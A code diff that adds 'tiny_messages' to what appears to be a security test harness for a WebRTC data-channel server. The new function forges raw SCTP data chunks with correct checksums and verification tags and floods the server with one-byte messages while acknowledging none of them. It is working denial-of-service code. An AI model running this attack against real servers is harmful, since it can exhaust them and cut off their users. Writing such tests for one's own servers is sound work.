@@ -7,7 +7,9 @@ exits 0 when the attack could be made and nothing that belongs to others came of
 import json
 import random
 import socket
+import struct
 import time
+import crc32c
 from lib import *
 from rtc import *
 
@@ -270,6 +272,27 @@ async def unfinished_messages(a):
     return sent > 100000, dict(bytes=sent)
 
 
+async def tiny_messages(a):
+    """Messages of one byte, fifty in a packet, to a server that is told of none of its echoes."""
+    p, _, h = await call_echo(a, data())
+    ch, _ = await p.data_up()
+    s = p.sctp
+    p.dtls._data_receiver = None  # nothing is acknowledged
+    number = s._outbound_stream_seq.get(ch.id, 0)
+    n = 0
+    for _ in until_end():
+        for _ in range(40):
+            chunks = b"".join(struct.pack("!BBHLHHL", 0, 3, 17, (s._local_tsn + n + i) & 0xffffffff, ch.id,
+                                          (number + n + i) & 0xffff, 53) + bytes(4) for i in range(50))
+            header = struct.pack("!HHL", 5000, 5000, s._remote_verification_tag)
+            crc = crc32c.crc32c(header + bytes(4) + chunks)
+            await p.dtls._send_data(header + struct.pack("<L", crc) + chunks)
+            n += 50
+        await asyncio.sleep(PACE_S)
+    await p.stop()
+    return n > 10000, dict(messages=n)
+
+
 # ---- work ----
 
 async def flapping_layers(a):
@@ -349,8 +372,8 @@ async def renegotiations(a):
 
 
 ATTACKS = {f.__name__: f for f in (empty_packets, forged_address, recorded_checks, squatting, plain_stun,
-                                   forged_records, handshake_flood, unfinished_messages, flapping_layers,
-                                   flapping_voice, wishes, renegotiations)}
+                                   forged_records, handshake_flood, unfinished_messages, tiny_messages,
+                                   flapping_layers, flapping_voice, wishes, renegotiations)}
 
 
 async def main():
